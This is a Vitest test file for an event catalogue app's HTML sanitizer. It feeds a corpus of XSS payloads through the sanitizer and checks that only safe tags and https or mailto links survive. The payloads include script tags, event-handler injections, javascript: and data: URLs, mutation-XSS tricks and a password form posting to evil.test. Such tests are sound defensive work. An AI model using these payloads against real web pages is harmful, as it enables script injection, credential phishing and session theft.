// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeOrganiserHtml } from '../../../../server/domain/catalogue/catalogue-html.ts';

const allowed = new Set('P BR HR H3 H4 UL OL LI STRONG B EM I U BLOCKQUOTE A'.split(' '));

const corpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.test"><input name=password><button>go</button></form>',
  '<style>*{position:fixed;inset:0}</style><p style="position:fixed;inset:0">x</p>',
  '<div id="root" class="x">x</div><p id=root>y</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/event/x">x</a>',
  '<a href="http://evil.test">x</a>',
  '<a href="https://baik.contoh.id" target="_blank" onclick="alert(1)">x</a>',
  '<p onmouseover="alert(1)">x</p>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p>tidak ditutup <b>tebal',
  '<img src="https://evil.test/pixel.gif">',
];

describe('organiser HTML (§2.132)', () => {
  it.each(corpus)('is harmless: %s (§17.50)', (html) => {
    const clean = sanitizeOrganiserHtml(html);
    const document = new DOMParser().parseFromString(`<body>${clean}</body>`, 'text/html');
    for (const element of document.body.querySelectorAll('*')) {
      expect(allowed).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(['href', 'rel']).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(?:https:\/\/|mailto:)/i);
        if (name === 'rel') expect(value).toBe('noopener nofollow');
      }
    }
    expect(document.head.children).toHaveLength(0);
    expect(clean).not.toMatch(/alert\(1\)<\/script/i);
    expect(sanitizeOrganiserHtml(clean)).toBe(clean);
  });

  it('keeps text tags and both kinds of link', () => {
    const html =
      '<h3>Tiket</h3><p>Satu <strong>dua</strong><br />tiga</p><ul><li>a</li></ul><a href="https://contoh.id/x?a=1&amp;b=2">x</a> <a href="mailto:halo@contoh.id">y</a>';
    const withRel = html.replaceAll(/<a href="([^"]+)"/g, '<a rel="noopener nofollow" href="$1"');
    expect(sanitizeOrganiserHtml(html)).toBe(withRel);
  });
});
